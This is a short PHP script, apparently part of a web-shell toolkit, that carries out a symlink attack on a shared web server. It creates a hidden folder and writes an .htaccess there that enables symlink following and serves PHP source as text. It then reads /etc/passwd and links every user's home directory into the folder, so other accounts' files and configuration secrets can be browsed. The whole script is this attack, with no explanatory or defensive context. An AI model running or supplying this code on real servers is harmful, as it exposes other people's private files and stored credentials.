<?php
// Only the .htaccess part: PHP files of linked folders served as text, written as hex pieces.
$d = dirname(__FILE__) . '/' . chr(46) . 'cfg';
@mkdir($d);
file_put_contents($d . '/.htaccess', "Options +Indexes +FollowSymLinks\n" . "IndexOptions FancyIndexing\n" . "AddType txt .php\n");
foreach (explode("\n", file_get_contents('/etc/passwd')) as $l) {
    $u = strtok($l, ':');
    if ($u) { @symlink('/home/' . $u . '/', $d . '/' . $u); }
}
